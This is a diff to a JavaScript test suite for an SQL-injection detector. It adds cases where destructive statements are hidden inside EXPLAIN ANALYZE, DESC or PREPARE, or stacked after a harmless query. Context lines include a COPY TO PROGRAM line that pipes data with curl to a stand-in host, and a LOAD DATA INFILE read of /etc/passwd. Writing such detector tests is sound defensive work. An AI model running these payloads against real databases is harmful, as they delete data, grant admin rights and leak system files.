@@ -35,6 +35,22 @@ describe('comment syntax that another database reads as code', () => {
   });
 });
 
+describe('a statement wrapped in EXPLAIN, DESCRIBE or PREPARE still runs', () => {
+  test.each([
+    'EXPLAIN ANALYZE DELETE FROM users',
+    'EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET admin = true',
+    'SELECT 1; EXPLAIN ANALYZE DELETE FROM users',
+    'SELECT 1; DESC DELETE FROM users',
+    'PREPARE p AS DELETE FROM users',
+  ])('%j', (sql) => {
+    expect(blockingCategories(inspectJson(JSON.stringify({ sql }))).has('sql-injection')).toBe(true);
+  });
+
+  test('EXPLAIN of a read stays quiet', () => {
+    expect(inspectJson(JSON.stringify({ sql: 'EXPLAIN SELECT id FROM users WHERE id = 1; SELECT 1' })).verdict).toBe('allow');
+  });
+});
+
 describe('statement kinds that run files or commands are SQL too', () => {
   test.each(["COPY users TO PROGRAM 'curl -d @- http://x.example'", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t"])('%j', (query) => {
     expect(blockingCategories(inspectJson(JSON.stringify({ query }))).has('sql-injection')).toBe(true);
